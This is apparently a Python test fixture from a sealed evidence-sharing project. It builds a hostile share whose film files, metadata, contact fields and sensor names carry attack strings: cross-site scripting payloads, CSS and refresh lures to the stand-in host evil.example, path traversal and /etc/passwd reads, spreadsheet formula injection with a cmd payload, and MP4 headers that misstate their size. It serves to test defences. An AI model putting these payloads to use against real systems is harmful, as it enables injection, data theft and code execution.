"""A share of which every part is an attack: films, words, names and readings of a stranger.

Each payload that ran would set `ran` in the window, or fetch from `LURE`. Nothing of it is refused
by the seals: a household may write what it likes.
"""

import asyncio
from collections.abc import Sequence
from datetime import timedelta
from fractions import Fraction
import hashlib
from pathlib import Path
from typing import Final

import av
import msgspec
import numpy as np

from noticeboard.agency.poster import LoggedPost
from noticeboard.seal.bag import SealedFile
from noticeboard.seal.custody import (
    Contact,
    Custody,
    Information,
    SealedTo,
    SensorHistory,
    SensorReading,
    Software,
)
from noticeboard.seal.seal import describe_information, seal_share
from tests.desk.world import DeskWorld
from tests.noticeboard.agency.conftest import now
from tests.noticeboard.agency.test_inbox import asked_by, delivery_key
from tests.noticeboard.seal.conftest import file_of

LASTS: Final = timedelta(seconds=1)
"""How long each of the films is said to last."""
LURE: Final = "http://evil.example/taken"
RUNS: Final = "window.ran=(window.ran||0)+1"
MARKUP: Final = (
    f"<script>{RUNS}</script>",
    f'<img src=x onerror="{RUNS}">',
    f"<svg onload={RUNS}>",
    f'"><iframe srcdoc="<script>parent.{RUNS}</script>">',
    f"javascript:{RUNS}",
    f"<a href='javascript:{RUNS}'>open</a>",
    f"${{{RUNS}}}{{{{constructor.constructor('{RUNS}')()}}}}",
    f"<style>@import '{LURE}.css';body{{background:url({LURE}.png)}}</style>",
    f"<link rel=stylesheet href={LURE}.css><base href={LURE}>",
    f"<meta http-equiv=refresh content='0;url={LURE}'>",
    "</textarea></title></style></script><h1>Signed out</h1>",
)
PLAIN: Final = (
    '#image("/etc/passwd") #read("root.key")',
    "../../../../root.key",
    '=HYPERLINK("http://evil.example","open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
"""What other readers would take for more: Typst, a path, a spreadsheet."""
WORDS: Final = "\n".join((*MARKUP, *PLAIN))
NAME: Final = f"Ann <img src=x onerror={RUNS}>"
CAMERA: Final = f"<svg onload={RUNS}>"
PAGE: Final = (
    "<!doctype html><title>clip</title>"
    f"<script>{RUNS}</script><script src='{LURE}.js'></script><img src='{LURE}.png'>"
).encode()
PICTURE: Final = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUNS}"><script>{RUNS}</script>'
    f'<image href="{LURE}.svg"/></svg>'
).encode()
SCRIPT: Final = f"{RUNS};self.addEventListener('fetch',e=>0);importScripts('{LURE}.js')".encode()
PLAYLIST: Final = f"#EXTM3U\n#EXTINF:1,\n{LURE}.ts\n#EXTINF:1,\nfile:///etc/passwd\n".encode()


def hostile_films(folder: Path) -> Sequence[Path]:
    """Write films that are none, that lie, or whose notes are markup; return them."""
    films = {
        "page.mp4": PAGE,
        "picture.mp4": PICTURE,
        "script.mp4": SCRIPT,
        "playlist.mp4": PLAYLIST,
    }
    for name, content in films.items():
        (folder / name).write_bytes(content)
    noted, wide = folder / "noted.mp4", folder / "wide.mp4"
    _film(noted, 320, 240, title=MARKUP[1], comment=MARKUP[0], artist=PLAIN[0])
    _claim_size(noted, wide, 65_000, 65_000)
    return (*(folder / name for name in films), noted, wide)


def _film(path: Path, width: int, height: int, **notes: str) -> None:
    with av.open(str(path), "w", format="mp4") as container:
        container.metadata.update(notes)
        stream = container.add_stream("libx264", rate=Fraction(10), options={"preset": "ultrafast"})
        stream.width, stream.height, stream.pix_fmt = width, height, "yuv420p"
        for shade in range(0, 200, 20):
            picture = np.full((height, width, 3), shade, dtype=np.uint8)
            container.mux(stream.encode(av.VideoFrame.from_ndarray(picture, format="rgb24")))
        container.mux(stream.encode())


def _claim_size(film: Path, into: Path, width: int, height: int) -> None:
    """Write the film again, with a track header and a sample entry that claim another size."""
    raw = bytearray(film.read_bytes())
    track = raw.index(b"tkhd") + 4
    raw[track + 76 : track + 84] = (width << 16).to_bytes(4) + (height << 16).to_bytes(4)
    entry = raw.index(b"avc1", raw.index(b"stsd")) + 4
    raw[entry + 24 : entry + 28] = width.to_bytes(2) + height.to_bytes(2)
    into.write_bytes(raw)


async def send_hostile(world: DeskWorld, posted: LoggedPost) -> str:
    """Have a stranger send such a share; return where it can be taken back."""
    films = await asyncio.to_thread(hostile_films, world.folder)
    asked = asked_by(world.agency, posted, agency_name=MARKUP[0], title=MARKUP[1])
    proof = await asyncio.to_thread(posted.proof.read_text)
    begins = now().replace(microsecond=0) - timedelta(minutes=30)
    files, clips = [], []
    for number, film in enumerate(films, start=1):
        name, content = f"clip-{number}.mp4", await asyncio.to_thread(film.read_bytes)
        start = begins + timedelta(seconds=number)
        files.append(file_of(name, content, start=start, end=start + LASTS, make=CAMERA))
        clips.append(SealedFile(path=film, name=name))
    readings = tuple(SensorReading(at=begins, state=each[:100]) for each in MARKUP)
    information = Information(
        words=WORDS,
        sensors=(
            SensorHistory(name=MARKUP[1][:60], kind="door", unit="", readings=readings),
            SensorHistory(name=PLAIN[2][:60], kind="motion", unit="<b>", readings=readings[:1]),
        ),
    )
    record = Custody(
        request=msgspec.structs.replace(asked, proof=hashlib.sha256(proof.encode()).hexdigest()),
        recipient=SealedTo(agency=asked.agency, delivery_key=delivery_key(world.agency)),
        files=tuple(files),
        information=describe_information(information),
        identity=Contact(name=NAME, email="ann@example.org", telephone="<svg/onload=alert(1)>"),
        approved_at=now().replace(microsecond=0),
        software=Software(name=MARKUP[0], version=PLAIN[1]),
    )
    sealed = world.folder / "hostile.age"
    await asyncio.to_thread(
        seal_share,
        clips,
        record,
        record.recipient.delivery_key,
        sealed,
        information=information,
        log_proof=proof,
    )
    return await world.front.upload(asked.agency, posted.entry.body.id, sealed)
